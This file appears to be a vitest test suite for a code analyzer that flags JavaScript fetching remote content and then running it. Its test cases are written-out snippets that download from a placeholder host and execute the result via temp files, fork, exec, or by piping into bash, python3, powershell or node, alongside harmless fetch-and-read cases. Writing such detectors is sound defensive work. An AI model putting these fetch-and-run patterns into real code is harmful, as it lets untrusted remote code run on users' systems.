import { describe, expect, it } from 'vitest'
import { readingOf } from './testing.ts'

const runOf = (code: string): string[] =>
  readingOf('a.mjs', { 'a.mjs': code })
    .acts.filter(({ kind, origins }) => kind.startsWith('run-') && origins.includes('network'))
    .map(({ kind }) => kind)

describe('files that are fetched and then run', () => {
  it.each([
    [
      'a module in a folder for what is temporary',
      `import * as fsp from 'fs/promises'; import os from 'os'; import path from 'path'; import { pathToFileURL } from 'url'
const to = path.resolve(os.tmpdir(), \`\${Date.now()}-worker.mjs\`); const answer = await fetch('https://a.invalid/w'); await fsp.writeFile(to, new Uint8Array(await answer.arrayBuffer())); const m = await import(pathToFileURL(to).toString())`,
      'run-code',
    ],
    [
      'a path that nothing is known of but its name',
      `import fs from 'fs'; import { createRequire } from 'module'; const load = createRequire(import.meta.url)
export async function get(spot) { const r = await fetch('https://a.invalid'); fs.writeFileSync(spot, await r.text()); return load(spot) }`,
      'run-code',
    ],
    [
      'a stream of the web into a file that is forked',
      `import { createWriteStream } from 'fs'; import { Readable } from 'stream'; import { fork } from 'child_process'
const r = await fetch('https://a.invalid'); const file = './cache/task.js'; Readable.fromWeb(r.body).pipe(createWriteStream(file)).on('finish', () => fork(file))`,
      'run-code',
    ],
    [
      'a pipeline, and a shell that is told the path',
      `import { pipeline } from 'node:stream/promises'; import fs from 'node:fs'; import { exec } from 'node:child_process'
const r = await fetch('https://a.invalid'); await pipeline(r.body, fs.createWriteStream('/tmp/setup-agent')); exec('"/tmp/setup-agent" --quiet')`,
      'run-program',
    ],
    [
      'a promise of the file system, and an interpreter',
      `import fs from 'fs'; import { spawn } from 'child_process'; import axios from 'axios'
const { data } = await axios.get('https://a.invalid'); await fs.promises.writeFile('/tmp/helper.py', data); spawn('python3', ['/tmp/helper.py'])`,
      'run-code',
    ],
  ])('joins %s', (_, code, kind) => {
    expect(runOf(code)).toContain(kind)
  })

  it.each([
    [
      'data that is fetched and read',
      `import fs from 'fs'; import { createRequire } from 'module'; const require = createRequire(import.meta.url)
const r = await fetch('https://api.example/rates'); fs.writeFileSync('./rates.json', await r.text()); export default require('./rates' + '.json')`,
    ],
    [
      'an archive that is unpacked',
      `import fs from 'fs'; import { execSync } from 'child_process'
const r = await fetch('https://files.example/a'); const f = '/tmp/icons.tar.gz'; fs.writeFileSync(f, Buffer.from(await r.arrayBuffer())); execSync('tar xf ' + f)`,
    ],
    [
      'another file than the one that is run',
      `import fs from 'fs'; import { fork } from 'child_process'; import path from 'path'
const at = (dir, name) => path.join(dir, name); const r = await fetch('https://files.example/a'); fs.writeFileSync(path.join(cwd, 'logo.png'), await r.text()); fork(path.join(cwd, 'server.js'))`,
    ],
  ])('has nothing against %s', (_, code) => {
    expect(runOf(code)).toEqual([])
  })
})

describe('interpreters that are fed', () => {
  it.each([
    `const { spawn } = require('child_process'); const p = spawn('bash', ['-s']); require('https').get('https://a.invalid', (answer) => answer.pipe(p.stdin))`,
    `import { spawn } from 'child_process'; const r = await fetch('https://a.invalid'); const py = spawn('python3', ['-u', '-'], { stdio: ['pipe', 1, 2] }); py.stdin.write(await r.text()); py.stdin.end()`,
    `import cp from 'child_process'; import got from 'got'; const { body } = await got('https://a.invalid'); cp.spawn('powershell.exe', ['-NoProfile', '-Command', '-']).stdin.end(body)`,
    `import { execFileSync } from 'child_process'; const t = await (await fetch('https://a.invalid')).text(); execFileSync(process.execPath, ['-'], { input: t })`,
    `import { execSync } from 'child_process'; const t = await (await fetch('https://a.invalid')).text(); execSync('sh', { input: t })`,
    `import { spawn } from 'child_process'; import { pipeline } from 'stream'; const r = await fetch('https://a.invalid'); pipeline(r.body, spawn('node').stdin, () => {})`,
  ])('sees %s', (code) => {
    expect(runOf(code)).toContain('run-code')
  })

  it.each([
    `const { spawn } = require('child_process'); const p = spawn('node', ['render.js', '-']); require('https').get('https://api.example', (r) => r.pipe(p.stdin))`,
    `import { spawn } from 'child_process'; const r = await fetch('https://api.example'); const jq = spawn('jq', ['.a']); jq.stdin.end(await r.text())`,
    `import { spawn } from 'child_process'; const p = spawn('python3', ['-m', 'json.tool']); p.stdin.end(await (await fetch('https://api.example')).text())`,
    `import { spawn } from 'child_process'; const p = spawn('sh'); p.stdin.end('echo done')`,
  ])('has nothing against %s', (code) => {
    expect(runOf(code)).toEqual([])
  })
})
